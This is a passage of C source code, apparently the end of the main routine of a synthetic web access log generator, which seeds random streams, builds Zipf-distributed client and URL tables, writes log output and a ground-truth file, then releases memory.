        g.k_ipv6[k] = (uint32_t)splitmix64(&sm);
        g.k_host[k] = (uint32_t)splitmix64(&sm);
    }
    /* The second stream comes after every draw of the first's seeding, so
     * the combined log of a seed is what it was before this stream. */
    for (int k = 0; k < 4; k++)
        g.x.s[k] = splitmix64(&sm);
    for (unsigned k = 0, octet = 1; k < IPV4_FIRST_OCTETS; k++, octet++) {
        if (octet == 127)
            octet++;
        g.first_octet[k] = (uint8_t)octet;
    }
    for (size_t k = 0; k < NUAS; k++)
        g.ua_total += user_agents[k].weight;
    for (int z = 0; z < MAX_ZONES; z++)
        g.days[z].day = INT64_MIN;

    alias_init_zipf(&g.clients, g.opt.clients, g.opt.client_skew, 5.0);
    alias_init_zipf(&g.urls, g.opt.urls, 1.1, 0.0);
    urls_init(&g, g.opt.urls);
    g.t.seen = xcalloc(((size_t)g.opt.clients + 63) / 64, sizeof *g.t.seen);
    g.t.url_count = xcalloc(g.opt.urls, sizeof *g.t.url_count);
    g.obuf = xcalloc(OUT_CAP, 1);

    /* The truth file is opened first so that a bad path fails before a long run. */
    if (g.opt.truth != NULL && (truth_file = fopen(g.opt.truth, "w")) == NULL)
        die(EXIT_IO, "%s: %s", g.opt.truth, strerror(errno));
    if (g.opt.truth_lines != NULL && (g.truth_lines = fopen(g.opt.truth_lines, "w")) == NULL)
        die(EXIT_IO, "%s: %s", g.opt.truth_lines, strerror(errno));
    if (g.opt.out != NULL) {
        g.out_name = g.opt.out;
        g.out = fopen(g.opt.out, "wb");
        if (g.out == NULL)
            die(EXIT_IO, "%s: %s", g.opt.out, strerror(errno));
    } else {
        g.out_name = "standard output";
        g.out = stdout;
    }
    generate(&g);
    out_flush(&g);
    if (fflush(g.out) != 0 || ferror(g.out) || (g.out != stdout && fclose(g.out) != 0))
        die(EXIT_IO, "%s: write error: %s", g.out_name, strerror(errno));
    if (truth_file != NULL)
        write_truth(&g, truth_file, g.opt.truth);
    if (g.truth_lines != NULL && (ferror(g.truth_lines) | (fclose(g.truth_lines) != 0)))
        die(EXIT_IO, "%s: write error: %s", g.opt.truth_lines, strerror(errno));

    alias_free(&g.clients);
    alias_free(&g.urls);
    free(g.url_arena);
    free(g.url_off);
    free(g.url_kind);
    free(g.url_size);
    free(g.t.seen);
    free(g.t.url_count);
    free(g.t.durs);
    free(g.obuf);
    return 0;
}
